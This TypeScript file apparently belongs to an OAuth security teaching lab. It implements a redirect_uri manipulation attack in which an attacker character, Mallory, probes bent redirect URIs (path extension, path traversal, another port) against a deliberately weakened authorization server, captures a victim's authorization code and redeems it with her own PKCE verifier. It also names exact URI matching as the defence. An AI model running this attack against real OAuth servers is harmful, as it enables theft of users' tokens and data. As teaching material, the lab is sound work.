import "server-only";
import { buildAuthorizationUrl, rfcSection } from "@seven-steps/protocol";
import { labAttack } from "@seven-steps/story";
import { env } from "@/env";
import type { Mallory } from "@/mallory/http";
import { readBody, spendTokenResponse } from "@/mallory/loot";
import { mallorysChallenge, mallorysVerifier } from "@/mallory/pkce";
import type { Attack } from "./attack";
import { victimClient } from "./victim-client";

/** Where Mallory wants the code: her own page, on her own port of the same host. */
export const mallorysCatchUri = `${env.ATTACKER_URL}/mallory/catch`;

/**
 * The redirect URIs Mallory bends out of the weak demo client's registered one, each a pattern
 * some servers have let through (RFC 9700 §4.1.1). The last is the one her page sends alice's
 * browser with: her own page, on the same host as PrintShop.
 */
export const bentRedirectUris = [
  { variant: "a longer path, with the registered URI as its prefix", redirectUri: `${victimClient.redirectUri}/mallory` },
  { variant: "a path traversal out of the registered path", redirectUri: `${victimClient.redirectUri}/../../mallory` },
  { variant: "another port of the same host: Mallory's own page", redirectUri: mallorysCatchUri },
] as const;

/**
 * The authorization request Mallory builds for alice's browser: the weak demo client's, with her
 * own redirect URI, her own PKCE challenge (she keeps the verifier), and the run's id as `state`,
 * so that her catching page knows which run a code belongs to.
 */
export async function mallorysAuthorizationUrl(runId: string, redirectUri: string): Promise<URL> {
  return buildAuthorizationUrl(`${env.ISSUER}/authorize`, {
    response_type: "code",
    client_id: victimClient.id,
    redirect_uri: redirectUri,
    scope: "profile photos:read",
    state: runId,
    code_challenge: await mallorysChallenge(runId),
    code_challenge_method: "S256",
  });
}

/**
 * How PhotoCloud answers one bent request. The redirect URI is checked before anyone signs in,
 * so Mallory can try each from her own server: an error page means refused; a redirect (to
 * sign-in) means the request was taken, and a code would follow alice's consent.
 */
async function tryRedirectUri(mallory: Mallory, runId: string, redirectUri: string): Promise<{ status: number; accepted: boolean; body: unknown }> {
  const response = await mallory.fetch((await mallorysAuthorizationUrl(runId, redirectUri)).toString());
  const accepted = response.status >= 300 && response.status < 400;
  return { status: response.status, accepted, body: accepted ? { location: response.headers.get("location") } : await readBody(response) };
}

/**
 * Attack 3: `redirect_uri` manipulation. Mallory builds an authorization request for a client
 * alice trusts, with a redirect URI of her own, and pushes alice's browser to it: if PhotoCloud
 * accepts the URI, alice's code comes to Mallory.
 */
export const redirectUri: Attack = {
  ...labAttack("redirect-uri"),
  story: {
    wants: "an authorization code for alice's photos, delivered to her own page instead of alice's app.",
    has: "the weak demo client's client_id and registered redirect URI (both public), and a link alice clicks: her page at Mallory's Prints.",
  },
  steps: [
    "Mallory bends the weak demo client's redirect URI three ways: a longer path, a path traversal, and her own page on another port of the same host.",
    "She sends each in an authorization request for that client, with a PKCE challenge of her own: she keeps the verifier.",
    "Her page pushes alice's browser to PhotoCloud with the last one.",
    "If PhotoCloud accepts it, alice signs in and allows what she thinks is PrintShop; the code lands at Mallory's page, and Mallory redeems it with her verifier.",
  ],
  defence: {
    summary:
      "Exact matching: PhotoCloud compares redirect_uri with the registered URIs character for character, and shows its own error page, never a redirect, when none matches.",
    see: [rfcSection(9700, "4.1"), rfcSection(9700, "2.1"), rfcSection(6749, "4.1.2.1")],
  },
  weakening: "redirect-uri-exact-match",
  needsVictimBrowser: true,
  phases: {
    async probe({ runId, mallory }) {
      const answers = [];
      for (const bent of bentRedirectUris) answers.push({ ...bent, ...(await tryRedirectUri(mallory, runId, bent.redirectUri)) });
      const accepted = answers.filter((answer) => answer.accepted).map((answer) => answer.variant);
      if (!answers.at(-1)!.accepted) {
        return {
          accepted,
          outcome: {
            verdict: "refused",
            summary: `PhotoCloud refused ${answers.length - accepted.length} of the ${answers.length} bent redirect URIs on its own error page, without redirecting anywhere; alice's tab shows that page, and no code left PhotoCloud.`,
            answers: answers.map(({ variant, redirectUri, status, body }) => ({ label: `${variant} (${redirectUri})`, status, body })),
          },
        };
      }
      return { accepted };
    },
    async redeem({ runId, mallory }, input) {
      const code = typeof input.code === "string" ? input.code : "";
      if (!code) return { outcome: { verdict: "could-not-run", summary: "No code reached Mallory's page: was the consent denied?" } };
      const response = await mallory.postForm(`${env.ISSUER}/token`, {
        grant_type: "authorization_code",
        code,
        redirect_uri: mallorysCatchUri,
        client_id: victimClient.id,
        code_verifier: mallorysVerifier(runId),
      });
      return {
        outcome: await spendTokenResponse(mallory, response, {
          refused: "The code reached Mallory's page, but the token endpoint refused it.",
          succeeded: "PhotoCloud sent alice's code to Mallory's page; she redeemed it with her own PKCE verifier and took alice's photos.",
        }),
      };
    },
  },
};
